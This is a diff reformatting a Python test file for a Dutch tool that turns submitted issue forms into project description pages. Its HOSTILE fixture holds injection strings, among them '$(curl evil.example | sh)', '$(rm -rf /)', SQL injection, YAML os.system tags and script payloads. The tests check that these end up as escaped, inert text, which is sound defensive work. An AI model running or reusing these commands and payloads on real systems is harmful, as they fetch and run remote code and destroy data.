@@ -20,7 +20,14 @@ from hypothesis import strategies as st
 from wwidw_build.audience import Audience
 from wwidw_build.build import build_all
 from wwidw_build.cli import cli
-from wwidw_build.issue_form import FIELDS, NO_RESPONSE, clean_section, option_ids, parse_issue_body, split_fields
+from wwidw_build.issue_form import (
+    FIELDS,
+    NO_RESPONSE,
+    clean_section,
+    option_ids,
+    parse_issue_body,
+    split_fields,
+)
 from wwidw_build.load import load_content
 from wwidw_build.pipeline import load_and_validate
 from wwidw_build.sections import split_sections
@@ -50,16 +57,18 @@ SAMPLE = {
 SCRIPT = "<script>alert(document.domain)</script>"
 HOSTILE = {
     "Titel": "$(rm -rf /) `id` : - '\" {{ x }} !!python/object " + SCRIPT,
-    "Samenvatting": "- item: waarde # geen commentaar {{ secrets.TOKEN }} ${HOME} &anker *alias !!python/object/apply:os.system "
-                    + SCRIPT,
+    "Samenvatting": "- item: waarde # geen commentaar {{ secrets.TOKEN }} ${HOME} &anker *alias "
+    "!!python/object/apply:os.system " + SCRIPT,
     "Gemeente": "'\"; rm -rf / #",
     "Wijk of buurt": "yes",
     "Naam contactpersoon": "Robert'); DROP TABLE -- `whoami`",
     "Auteurs": "$(curl evil.example | sh), {{ 7*7 }}",
-    "Aanleiding": "Tekst met $(rm -rf /) en `uname -a` en '\"{{ }}' en " + SCRIPT + " en <img src=x onerror=alert(1)>.\n"
-                  "---\n"
-                  "titel: nep\n"
-                  "- lijstje: !!python/object:os.system",
+    "Aanleiding": "Tekst met $(rm -rf /) en `uname -a` en '\"{{ }}' en "
+    + SCRIPT
+    + " en <img src=x onerror=alert(1)>.\n"
+    "---\n"
+    "titel: nep\n"
+    "- lijstje: !!python/object:os.system",
 }
 
 
@@ -78,8 +87,11 @@ def submitted(values: dict[str, str], newline: str = "\n") -> str:
 def run_formulier(content: Path, body: str, tmp_path: Path) -> subprocess.CompletedProcess:
     issue = tmp_path / "issue.md"
     issue.write_text(body, encoding="utf-8")
-    return subprocess.run([sys.executable, "-m", "wwidw_build", "formulier", str(issue), "--content", str(content)],
-                          capture_output=True, text=True)
+    return subprocess.run(
+        [sys.executable, "-m", "wwidw_build", "formulier", str(issue), "--content", str(content)],
+        capture_output=True,
+        text=True,
+    )
 
 
 def written(result: subprocess.CompletedProcess) -> Path:
@@ -107,19 +119,33 @@ def test_a_submitted_form_becomes_a_valid_description(content_copy, tmp_path):
     assert errors_in(content_copy) == []
     doc = document(content_copy, path)
     assert doc.meta["organisatie"] == "welzijn-de-brug" and doc.meta["startjaar"] == 2022
-    assert doc.meta["themas"] == ["sociale-cohesie", "eenzaamheid"] and doc.meta["doelgroepen"] == ["ouderen"]
+    assert doc.meta["themas"] == ["sociale-cohesie", "eenzaamheid"] and doc.meta["doelgroepen"] == [
+        "ouderen"
+    ]
     assert doc.meta["beoogde_effecten"] == ["minder-burenoverlast", "meer-vertrouwen-in-buren"]
-    assert doc.meta["contact"] == {"naam": "Fatima El Amrani", "email": "f.elamrani@debrug.example", "openbaar": False}
-    assert doc.meta["auteurs"] == ["Fatima El Amrani", "Joost de Boer"] and doc.meta["concept"] is True
-    assert doc.meta["samenvatting"].startswith("Bewoners runnen samen met een opbouwwerker een buurtkamer waar")
+    assert doc.meta["contact"] == {
+        "naam": "Fatima El Amrani",
+        "email": "f.elamrani@debrug.example",
+        "openbaar": False,
+    }
+    assert (
+        doc.meta["auteurs"] == ["Fatima El Amrani", "Joost de Boer"] and doc.meta["concept"] is True
+    )
+    assert doc.meta["samenvatting"].startswith(
+        "Bewoners runnen samen met een opbouwwerker een buurtkamer waar"
+    )
     assert "wijk" not in doc.meta and "eindjaar" not in doc.meta  # _No response_ leaves a field out
     sections = split_sections(doc.body)
     assert sections["aanleiding"].strip() == SAMPLE["Aanleiding"]
-    assert "Schrijftip" in sections["doel"]  # an empty section keeps the writing hint, as with wwidw new
+    assert (
+        "Schrijftip" in sections["doel"]
+    )  # an empty section keeps the writing hint, as with wwidw new
 
 
 def test_windows_line_endings_and_a_checked_box(content_copy, tmp_path):
-    values = SAMPLE | {"Contactgegevens openbaar": "- [X] Mijn contactgegevens mogen op de openbare site staan"}
+    values = SAMPLE | {
+        "Contactgegevens openbaar": "- [X] Mijn contactgegevens mogen op de openbare site staan"
+    }
     path = written(run_formulier(content_copy, submitted(values, newline="\r\n"), tmp_path))
     doc = document(content_copy, path)
     assert doc.meta["contact"]["openbaar"] is True and doc.meta["titel"] == "Buurtkamer aan de Dijk"
@@ -134,9 +160,23 @@ def test_hostile_values_end_up_as_inert_text(content_copy, tmp_path):
     assert doc.meta["gemeente"] == HOSTILE["Gemeente"] and doc.meta["wijk"] == "yes"
     assert doc.meta["contact"]["naam"] == HOSTILE["Naam contactpersoon"]
     assert doc.meta["auteurs"] == ["$(curl evil.example | sh)", "{{ 7*7 }}"]
-    assert set(doc.meta) <= {"titel", "samenvatting", "organisatie", "zichtbaarheid", "gemeente", "wijk", "startjaar",
-                             "projectstatus", "themas", "doelgroepen", "beoogde_effecten", "contact", "auteurs",
-                             "laatst_bijgewerkt", "concept"}
+    assert set(doc.meta) <= {
+        "titel",
+        "samenvatting",
+        "organisatie",
+        "zichtbaarheid",
+        "gemeente",
+        "wijk",
+        "startjaar",
+        "projectstatus",
+        "themas",
+        "doelgroepen",
+        "beoogde_effecten",
+        "contact",
+        "auteurs",
+        "laatst_bijgewerkt",
+        "concept",
+    }
     assert split_sections(doc.body)["aanleiding"].strip() == HOSTILE["Aanleiding"]
     assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", path.stem)
 
@@ -157,18 +197,25 @@ def test_hostile_values_are_escaped_in_the_built_pages(content_copy, tmp_path):
 
 
 def test_an_invalid_form_writes_nothing(content_copy, tmp_path):
-    values = SAMPLE | {"Startjaar": "twintig tweeëntwintig", "Organisatie": "Welzijn (welzijn-de-brg)"}
+    values = SAMPLE | {
+        "Startjaar": "twintig tweeëntwintig",
+        "Organisatie": "Welzijn (welzijn-de-brg)",
+    }
     result = run_formulier(content_copy, submitted(values), tmp_path)
     assert result.returncode == 1
     assert "formulier-geen-jaar" in result.stderr and "onbekende-organisatie" in result.stderr
-    assert "welzijn-de-brug" in result.stderr  # "bedoelde u ...?", from the same checks as wwidw new
+    assert (
+        "welzijn-de-brug" in result.stderr
+    )  # "bedoelde u ...?", from the same checks as wwidw new
     assert not (content_copy / "praktijken" / "buurtkamer-aan-de-dijk.md").exists()
 
 
 def test_an_existing_description_is_never_overwritten(content_copy, tmp_path):
     target = content_copy / "praktijken" / "buurtbemiddeling-rivierenwijk.md"
     before = target.read_bytes()
-    result = run_formulier(content_copy, submitted(SAMPLE | {"Titel": "Buurtbemiddeling Rivierenwijk"}), tmp_path)
+    result = run_formulier(
+        content_copy, submitted(SAMPLE | {"Titel": "Buurtbemiddeling Rivierenwijk"}), tmp_path
+    )
     assert result.returncode == 1 and "bestaat al" in result.stderr
     assert target.read_bytes() == before
 
@@ -181,10 +228,15 @@ def test_formulier_is_a_cli_command(content_copy, tmp_path):
 
 
 def test_a_heading_typed_inside_a_text_stays_in_that_text():
-    values = SAMPLE | {"Aanpak": "Eerst dit.\n\n### Gemeente\n\nDit is geen gemeente.\n## Doel\n# Kop"}
+    values = SAMPLE | {
+        "Aanpak": "Eerst dit.\n\n### Gemeente\n\nDit is geen gemeente.\n## Doel\n# Kop"
+    }
     answers, problems = parse_issue_body(submitted(values), "issue.md")
     assert problems == [] and answers.gemeente == "Rivierstede"
-    assert answers.secties["Aanpak"] == "Eerst dit.\n\n### Gemeente\n\nDit is geen gemeente.\n### Doel\n### Kop"
+    assert (
+        answers.secties["Aanpak"]
+        == "Eerst dit.\n\n### Gemeente\n\nDit is geen gemeente.\n### Doel\n### Kop"
+    )
 
 
 def test_section_texts_cannot_swallow_the_next_section():
@@ -194,9 +246,14 @@ def test_section_texts_cannot_swallow_the_next_section():
 
 
 def test_option_ids():
-    assert option_ids("Jongeren (12-23 jaar) (jongeren), Ouderen (ouderen)") == ["jongeren", "ouderen"]
+    assert option_ids("Jongeren (12-23 jaar) (jongeren), Ouderen (ouderen)") == [
+        "jongeren",
+        "ouderen",
+    ]
     assert option_ids("minder-burenoverlast,  meer-groen-in-de-wijk\nminder-burenoverlast") == [
-        "minder-burenoverlast", "meer-groen-in-de-wijk"]
+        "minder-burenoverlast",
+        "meer-groen-in-de-wijk",
+    ]
     assert option_ids("") == []
 
 
@@ -224,7 +281,12 @@ def test_every_value_comes_back_from_its_own_heading(values):
     fields = split_fields(body)
     for field in FIELDS:
         raw = values[field.label].replace("\r\n", "\n").replace("\r", "\n").strip()
-        if not raw or raw == NO_RESPONSE or any(line.rstrip() in {f"### {label}" for label in LABELS}
-                                                for line in raw.split("\n")):
+        if (
+            not raw
+            or raw == NO_RESPONSE
+            or any(
+                line.rstrip() in {f"### {label}" for label in LABELS} for line in raw.split("\n")
+            )
+        ):
             continue
         assert fields[field.key].text == raw
